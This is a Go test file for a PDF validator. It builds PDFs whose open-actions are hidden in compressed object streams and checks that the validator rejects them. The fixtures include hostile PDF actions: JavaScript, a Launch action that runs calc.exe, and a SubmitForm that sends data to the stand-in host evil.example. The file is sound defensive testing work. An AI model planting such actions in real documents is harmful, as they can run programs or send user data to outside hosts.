package print

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// javaScriptInObjectStream hangs an action on the catalog's /OpenAction, the action itself
// compressed inside an object stream, as PDF 1.5 and later generators write most objects.
func actionInObjectStream(action string) []byte {
	prolog := "6 0 "
	content := zlibBytes([]byte(prolog + action))
	objects := slices.Clone(onePage)
	objects[0] = "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"
	objects = append(objects, fmt.Sprintf("<< /Type /ObjStm /N 1 /First %d /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream",
		len(prolog), len(content), content))
	return xrefStreamPDF(objects, [][3]int{{2, 4, 0}}, 0, "")
}

// Objects inside object streams were not looked at: JavaScript compressed into one passed
// (found by a review of issue 23).
func TestActionsInsideObjectStreamsAreFound(t *testing.T) {
	for action, want := range map[string]string{
		"<< /S /JavaScript /JS (app.alert(1)) >>":         "JavaScript",
		"<< /S /Launch /F (calc.exe) >>":                  "Launch",
		"<< /S /SubmitForm /F (https://evil.example/) >>": "SubmitForm",
	} {
		err := ValidatePDF(actionInObjectStream(action))
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s compressed in an object stream: %v", action, err)
		}
	}
	// The same file with a harmless object in the stream is a PDF we print.
	if err := ValidatePDF(actionInObjectStream("<< /S /GoTo /D [3 0 R /Fit] >>")); err != nil {
		t.Fatalf("a go-to action in an object stream: %v", err)
	}
}
